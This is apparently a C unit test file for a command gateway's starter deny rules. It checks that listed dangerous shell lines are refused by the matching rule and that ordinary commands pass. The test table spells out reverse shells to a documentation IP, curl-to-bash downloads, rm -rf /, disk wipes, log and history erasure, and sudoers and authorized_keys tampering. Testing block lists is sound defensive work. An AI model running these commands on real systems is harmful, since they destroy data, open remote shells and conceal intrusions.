/* The rules that come with Sallyport (rules/starter): what each of them is there for is refused, in the forms that people type; a week
 * of ordinary work raises nothing. */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "base/str.h"
#include "rules/command.h"

static const char folder[] = STARTER;
static struct sp_commands *all;

static const struct {
	const char	*rule, *line;
} refused[] = {
	{ "su", "su -" }, { "su", "su root -c id" }, { "su", "/bin/su -" }, { "su", "\\su" }, { "su", "'s'u" }, { "su", "ls; su -" }, { "su", "sudo su -" },
	{ "su", "exec su" }, { "su", "echo $(su -c id)" }, { "su", "nohup su &" }, { "su", "env A=1 su" }, { "su", "sudo sh -c 'su -'" },
	{ "passwd", "passwd" }, { "passwd", "sudo passwd root" }, { "passwd", "echo root:x | chpasswd" }, { "passwd", "vipw" },
	{ "shutdown", "reboot" }, { "shutdown", "sudo reboot" }, { "shutdown", "sudo sh -c 'reboot'" }, { "shutdown", "/sbin/shutdown -h now" },
	{ "shutdown", "systemctl reboot" }, { "shutdown", "init 0" }, { "shutdown", "telinit 6" }, { "shutdown", "poweroff" }, { "shutdown", "halt -p" },
	{ "shutdown", "sleep 60 && reboot" }, { "shutdown", "echo b > /proc/sysrq-trigger" }, { "shutdown", "bash -c \"bash -c reboot\"" },
	{ "shutdown", "true || reboot" }, { "shutdown", "(reboot)" }, { "shutdown", "{ reboot; }" }, { "shutdown", "if true; then reboot; fi" },
	{ "shutdown", "xargs reboot < /dev/null" }, { "shutdown", "timeout 5 reboot" }, { "shutdown", "eval reboot" }, { "shutdown", "`reboot`" },
	{ "mkfs", "mkfs.ext4 /dev/sdb1" }, { "mkfs", "mkfs -t xfs /dev/sdb" }, { "mkfs", "wipefs -a /dev/sdb" }, { "mkfs", "sudo mkswap /dev/sdb2" },
	{ "dd-device", "dd if=/dev/zero of=/dev/sda" }, { "dd-device", "sudo dd if=x.iso of=/dev/sdb bs=4M" }, { "dd-device", "cat x > /dev/sda" },
	{ "rm-system", "rm -rf /" }, { "rm-system", "rm -rf /*" }, { "rm-system", "rm -fr /etc" }, { "rm-system", "rm -r -f /usr/" },
	{ "rm-system", "rm --recursive /var" }, { "boot", "sudo rm -Rf /boot/*" }, { "rm-system", "rm --no-preserve-root -rf /" },
	{ "rm-system", "ls;rm -rf /" }, { "rm-system", "cd / && rm -rf /home" }, { "rm-system", "find / -delete" }, { "rm-system", "rm -rf //" },
	{ "rm-system", "rm -rf \"/etc\"" },
	{ "firewall-flush", "iptables -F" }, { "firewall-flush", "iptables -t nat --flush" }, { "firewall-flush", "nft flush ruleset" },
	{ "firewall-flush", "iptables -P INPUT ACCEPT" }, { "firewall-flush", "ufw disable" }, { "firewall-flush", "systemctl stop firewalld" },
	{ "write-accounts", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd" }, { "write-accounts", "tee -a /etc/sudoers" },
	{ "write-accounts", "echo y | sudo tee /etc/sudoers.d/x" }, { "write-accounts", "vim /etc/ssh/sshd_config" }, { "write-accounts", "sed -i s/no/yes/ /etc/ssh/sshd_config" },
	{ "write-accounts", "cp /tmp/passwd /etc/passwd" }, { "write-accounts", "mv /tmp/s /etc/shadow" }, { "write-accounts", "chmod 666 /etc/shadow" },
	{ "write-accounts", "visudo" }, { "write-accounts", "echo x > /etc/default/grub" }, { "write-accounts", "chattr -i /etc/passwd" },
	{ "boot", "update-grub" }, { "boot", "rm /boot/vmlinuz" }, { "boot", "echo x > /boot/grub/grub.cfg" },
	{ "history", "history -c" }, { "history", "unset HISTFILE" }, { "history", "export HISTFILE=/dev/null" }, { "history", "HISTFILE=/dev/null" },
	{ "history", "rm ~/.bash_history" }, { "history", "> ~/.bash_history" }, { "history", "ln -sf /dev/null ~/.bash_history" }, { "history", "set +o history" },
	{ "history", "export HISTSIZE=0" }, { "history", "shred -u /var/log/auth.log" },
	{ "decoded-to-shell", "base64 -d x | sh" }, { "decoded-to-shell", "echo aWQ= | base64 -d | bash" }, { "decoded-to-shell", "curl -s http://x/a.sh | sudo bash" },
	{ "decoded-to-shell", "wget -qO- x | sh" }, { "decoded-to-shell", "xxd -r -p x | /bin/sh" },
	{ "reverse-shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" }, { "reverse-shell", "nc -e /bin/sh 192.0.2.1 4444" },
	{ "reverse-shell", "ncat --exec /bin/bash 192.0.2.1 1" }, { "reverse-shell", "socat tcp:192.0.2.1:1 exec:/bin/sh" },
	{ "reverse-shell", "exec 5<>/dev/tcp/192.0.2.1/1" },
	{ "reverse-shell", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" },
	{ "reverse-shell", "rm -f /tmp/f; mkfifo /tmp/f; nc 192.0.2.1 1 < /tmp/f | /bin/sh > /tmp/f" },
	{ "evidence-off", "systemctl stop auditd" }, { "evidence-off", "service rsyslog stop" }, { "evidence-off", "auditctl -e 0" }, { "evidence-off", "setenforce 0" },
	{ "setuid", "chmod u+s /tmp/sh" }, { "setuid", "chmod 4755 /tmp/sh" }, { "setuid", "setcap cap_setuid+ep /tmp/x" },
	{ "shells", "echo key >> ~/.ssh/authorized_keys" }, { "shells", "useradd -o -u 0 x" }, { "shells", "echo x > /etc/cron.d/x" },
};

static char *
file_text(const char *name, size_t *ret)
{
	char path[512];
	FILE *f;
	char *p = calloc(1, SP_COMMAND_RULE_MAX);

	assert_non_null(p);
	snprintf(path, sizeof(path), "%s/%s", folder, name);
	assert_non_null(f = fopen(path, "r"));
	*ret = fread(p, 1, SP_COMMAND_RULE_MAX - 1, f);
	fclose(f);
	return p;
}

static struct sp_command_verdict
judge(const char *text, int64_t *ret_rule)
{
	struct sp_command_line l = { .text = text, .len = strlen(text), .protocol = "shell", .now_us = INT64_C(1767225600000000) };
	struct sp_command_verdict v;

	sp_commands_judge(all, &l, &v);
	*ret_rule = v.rule;
	return v;
}

static int
load(void **state)
{
	struct sp_command_place p = { .user = "u", .role = "user", .asset = "a", .account = "a", .login = "a", .source = "192.0.2.1", .port = 22,
	    .mode = SP_COMMAND_BLACK };
	struct sp_rules_error err = { .why = "" };
	struct dirent *e;
	DIR *d = opendir(folder);
	int n = 0;

	(void)state;
	assert_non_null(d);
	assert_int_equal(sp_commands_new(&all), SP_OK);
	while ((e = readdir(d)) != NULL) {
		struct sp_command_rule r = { .name = e->d_name, .set = "starter", .message = "", .priority = 50, .action = SP_COMMAND_DENY };
		char *text;

		if (strlen(e->d_name) < 5 || strcmp(e->d_name + strlen(e->d_name) - 4, ".yml") != 0)
			continue;
		r.text = text = file_text(e->d_name, &r.len);
		if (sp_commands_add(all, &r, &err) != SP_OK)
			fail_msg("%s:%u: %s", e->d_name, err.line, err.why);
		free(text);
		n++;
	}
	closedir(d);
	assert_int_equal(sp_commands_place(all, &p), SP_OK);
	assert_int_equal(sp_commands_ready(all, &err), SP_OK);
	return n >= 15 ? 0 : -1;
}

static void
what_the_rules_are_for_is_refused(void **state)
{
	int wrong = 0;

	(void)state;
	for (size_t i = 0; i < SP_NELEMS(refused); i++) {
		struct sp_command_said said = { .name = "none" };
		char want[64];
		int64_t rule;

		if (judge(refused[i].line, &rule).action >= SP_COMMAND_DENY && rule >= 0)
			sp_commands_rule(all, (int)rule, &said);
		snprintf(want, sizeof(want), "%s.yml", refused[i].rule);
		if (strcmp(said.name, want) != 0) {
			fprintf(stderr, "%s: by %s, not by %s\n", refused[i].line, said.name, want);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

static void
a_week_of_ordinary_work_raises_nothing(void **state)
{
	char path[512], line[1024];
	int wrong = 0, n = 0;
	FILE *f;

	(void)state;
	snprintf(path, sizeof(path), "%s/benign.txt", folder);
	assert_non_null(f = fopen(path, "r"));
	while (fgets(line, sizeof(line), f) != NULL) {
		struct sp_command_said said = { .name = "the mode" };
		int64_t rule;

		line[strcspn(line, "\n")] = '\0';
		if (line[0] == '#' || line[0] == '\0')
			continue;
		n++;
		if (judge(line, &rule).action == SP_COMMAND_ALLOW)
			continue;
		if (rule >= 0)
			sp_commands_rule(all, (int)rule, &said);
		fprintf(stderr, "%s: refused by %s\n", line, said.name);
		wrong++;
	}
	fclose(f);
	assert_true(n > 180);
	assert_int_equal(wrong, 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_the_rules_are_for_is_refused),
		cmocka_unit_test(a_week_of_ordinary_work_raises_nothing),
	};
	int failed = cmocka_run_group_tests(tests, load, NULL);
	sp_commands_free(all);
	return failed;
}
